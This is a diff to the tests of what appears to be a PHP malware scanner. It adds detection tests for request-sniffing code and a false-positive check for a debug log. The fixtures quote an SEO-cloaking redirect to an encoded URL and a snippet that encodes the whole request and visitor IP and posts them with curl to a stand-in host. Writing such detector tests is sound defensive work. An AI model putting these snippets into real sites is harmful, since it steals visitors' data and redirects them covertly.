@@ -244,3 +244,16 @@ def test_redirect_script_for_visitors_from_search_engines():
            b"  stripos($ref, 'bing.') === false) { return; }\n"
            b"echo \"<script>window.location = atob('aHR0cDovL3guZXhhbXBsZS8=');</script>\";")
     assert 'php.seo.cloaking' in found(src)
+
+
+def test_whole_request_encoded_and_posted_away():
+    src = (b"<?php $d = base64_encode(json_encode(array('r' => $_REQUEST, 'ip' => $_SERVER['REMOTE_ADDR'])));\n"
+           b"$ch = curl_init(); curl_setopt($ch, CURLOPT_URL, 'http://stats.example/o.php');\n"
+           b"curl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query(array('data' => $d))); curl_exec($ch);")
+    assert {'php.steal.whole_request', 'php.steal.victim_profile'} <= found(src)
+    assert suspicious(src)
+
+
+def test_debug_log_of_the_post_is_not_a_sniffer():
+    src = b"<?php file_put_contents(__DIR__ . '/debug.log', print_r($_POST, true), FILE_APPEND);"
+    assert 'php.steal.whole_request' not in found(src)
